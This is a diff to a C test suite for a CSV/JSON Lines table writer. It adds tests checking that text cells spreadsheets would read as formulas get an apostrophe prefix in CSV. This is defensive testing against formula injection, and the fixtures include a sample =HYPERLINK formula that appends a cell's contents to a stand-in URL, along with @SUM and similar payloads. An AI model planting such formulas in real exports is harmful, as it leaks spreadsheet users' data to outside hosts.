@@ -24,6 +24,7 @@
 #include "files.h"
 #include "trace/table.h"
 #include "opmfu.h"
+#include "write/text_writer.h"
 #include "write/writer.h"
 
 static char dir[4096];
@@ -74,7 +75,7 @@ static void rows_rank0(struct opmfu_cell_store *cs)
 	add(cs, I(0), N, I(0), R(NAN), S("\x01\x1f\x7f" "back\\slash"));
 	/* F: invalid UTF-8 (a stray 0xFF, a cut 3-byte sequence); +inf; a NUL byte inside */
 	add(cs, I(0), S("bad\xff\xe2\x82" "end"), I(5), R(INFINITY), opmfu_cell_text("nul\0in", 6));
-	/* G: a formula-like text stays text; -inf */
+	/* G: a formula-like text gets ' in front in CSV (test_formulas has the rest); -inf */
 	add(cs, I(0), S("=1+2"), I(1), R(-INFINITY), S("x"));
 	/* H: a surrogate, an overlong, an emoji, a cut emoji; the smallest subnormal */
 	add(cs, I(0), S("\xed\xa0\x80|\xc0\xaf|\xf0\x9f\x98\x80|\xf0\x9f\x98"), I(2), R(5e-324), N);
@@ -90,7 +91,7 @@ static const char csv_rank0[] =
 	"0,\xcf\x80\xe2\x89\x88" "3.14 \xe2\x82\xac,-1,-0.0,tab\there\r\n"
 	"0,,0,,\x01\x1f\x7f" "back\\slash\r\n"
 	"0,bad\xff\xe2\x82" "end,5,inf,nul\0in\r\n"
-	"0,=1+2,1,-inf,x\r\n"
+	"0,'=1+2,1,-inf,x\r\n"
 	"0,\xed\xa0\x80|\xc0\xaf|\xf0\x9f\x98\x80|\xf0\x9f\x98,2,5e-324,\r\n";
 
 /*
@@ -174,7 +175,7 @@ static void fresh(const char *name, char *out, size_t size)
 
 /* One rank, committed: the exact bytes of both formats. */
 static void test_bytes(const char *fmt, const char *ext, const char *want, size_t want_n, size_t repaired,
-		       size_t nulled)
+		       size_t nulled, size_t prefixed)
 {
 	const struct opmfu_writer_type *wt = opmfu_writer_type_find(fmt);
 	const struct opmfu_table_def *defs[] = { &main_def, &odd_def };
@@ -206,6 +207,7 @@ static void test_bytes(const char *fmt, const char *ext, const char *want, size_
 	CHECK_INT(opmfu_writer_keep_rank(w, 0, &ks, &e), OPMFU_OK);
 	CHECK_INT(ks.repaired, repaired);
 	CHECK_INT(ks.nulled, nulled);
+	CHECK_INT(ks.prefixed, prefixed);
 	CHECK_INT(ks.truncated + ks.blanks + ks.files, 0);
 	CHECK_INT(opmfu_writer_commit(w, &e), OPMFU_OK);
 	opmfu_writer_close(w);
@@ -221,6 +223,71 @@ static void test_bytes(const char *fmt, const char *ext, const char *want, size_
 	opmfu_cell_store_release(&cs);
 	opmfu_cell_store_release(&odd);
 }
+
+/*
+ * Issue 27: texts a spreadsheet would read as formulas. CSV puts ' in front
+ * of a text cell starting with =, +, -, @, tab or CR (then quotes it as
+ * RFC 4180 says), never of a number (-5, -1.5) nor of a text starting
+ * otherwise; verbatim (--csv-verbatim) writes them as they are; JSON Lines
+ * always does (a JSON string is never a formula).
+ */
+static void test_formulas(const char *fmt, int verbatim, const char *want, size_t prefixed)
+{
+	const struct opmfu_writer_type *wt = opmfu_writer_type_find(fmt);
+	const struct opmfu_table_def *defs[] = { &main_def };
+	struct opmfu_writer *w = NULL;
+	struct opmfu_cell_store cs;
+	struct opmfu_table t;
+	struct opmfu_write_stats ks;
+	struct opmfu_err e = OPMFU_ERR_INIT;
+	char d[4200], path[4300];
+
+	fresh(verbatim ? "formulas_verbatim" : "formulas", d, sizeof(d));
+	opmfu_cell_store_init(&cs, &main_def);
+	add(&cs, I(0), S("=HYPERLINK(\"http://x/?\"&A1,\"x\")"), I(-5), R(-1.5), S("+1"));
+	add(&cs, I(-1), S("-x"), I(0), R(-0.0), S("@SUM(A1)"));
+	add(&cs, I(0), S("\tx"), I(-9), R(0), S("\rx"));
+	/* not at the start, after a space, already quoted, empty: as they are */
+	add(&cs, I(0), S("a-b"), I(0), R(NAN), S(" =x"));
+	add(&cs, I(0), S("'=x"), I(0), R(-INFINITY), S(""));
+	CHECK_INT(wt->open(&w, d, defs, 1, &e), OPMFU_OK);
+	if (verbatim)
+		opmfu_csv_verbatim(w);
+	t = opmfu_cell_store_table(&cs);
+	CHECK_INT(opmfu_writer_put(w, 0, &t, &e), OPMFU_OK);
+	memset(&ks, 0xff, sizeof(ks));
+	CHECK_INT(opmfu_writer_keep_rank(w, 0, &ks, &e), OPMFU_OK);
+	CHECK_INT(ks.prefixed, prefixed);
+	CHECK_INT(opmfu_writer_commit(w, &e), OPMFU_OK);
+	opmfu_writer_close(w);
+	snprintf(path, sizeof(path), "%s/OpmfuT%s", d, wt->where[0] == 'c' ? ".csv" : ".jsonl");
+	CHECK(holds_str(path, want));
+	opmfu_cell_store_release(&cs);
+}
+
+static const char csv_formulas[] =
+	"rank_id,name,start(ns),ratio,note\r\n"
+	"0,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\",-5,-1.5,'+1\r\n"
+	"-1,'-x,0,-0.0,'@SUM(A1)\r\n"
+	"0,'\tx,-9,0.0,\"'\rx\"\r\n"
+	"0,a-b,0,, =x\r\n"
+	"0,'=x,0,-inf,\"\"\r\n";
+
+static const char csv_formulas_verbatim[] =
+	"rank_id,name,start(ns),ratio,note\r\n"
+	"0,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\",-5,-1.5,+1\r\n"
+	"-1,-x,0,-0.0,@SUM(A1)\r\n"
+	"0,\tx,-9,0.0,\"\rx\"\r\n"
+	"0,a-b,0,, =x\r\n"
+	"0,'=x,0,-inf,\"\"\r\n";
+
+static const char json_formulas[] =
+	"{\"rank_id\":0,\"name\":\"=HYPERLINK(\\\"http://x/?\\\"&A1,\\\"x\\\")\",\"start(ns)\":-5,"
+	"\"ratio\":-1.5,\"note\":\"+1\"}\n"
+	"{\"rank_id\":-1,\"name\":\"-x\",\"start(ns)\":0,\"ratio\":-0.0,\"note\":\"@SUM(A1)\"}\n"
+	"{\"rank_id\":0,\"name\":\"\\tx\",\"start(ns)\":-9,\"ratio\":0.0,\"note\":\"\\rx\"}\n"
+	"{\"rank_id\":0,\"name\":\"a-b\",\"start(ns)\":0,\"ratio\":null,\"note\":\" =x\"}\n"
+	"{\"rank_id\":0,\"name\":\"'=x\",\"start(ns)\":0,\"ratio\":null,\"note\":\"\"}\n";
 
 /*
  * Three ranks: 0 kept, 1 dropped after rows in both tables, 2 kept; then a
@@ -413,8 +480,11 @@ int main(int argc, char **argv)
 	json_n = sizeof(json_rank0) - 1;
 	memcpy(json_all, json_rank0, json_n);
 	/* JSON: rows F and H repaired; +inf and -inf null */
-	test_bytes("csv", ".csv", csv_all, csv_n, 0, 0);
-	test_bytes("json", ".jsonl", json_all, json_n, 2, 2);
+	test_bytes("csv", ".csv", csv_all, csv_n, 0, 0, 1);
+	test_bytes("json", ".jsonl", json_all, json_n, 2, 2, 0);
+	test_formulas("csv", 0, csv_formulas, 6);
+	test_formulas("csv", 1, csv_formulas_verbatim, 0);
+	test_formulas("json", 0, json_formulas, 0);
 	test_ranks("csv", ".csv", csv_head);
 	test_ranks("json", ".jsonl", "");
 	test_faults("csv", ".csv");
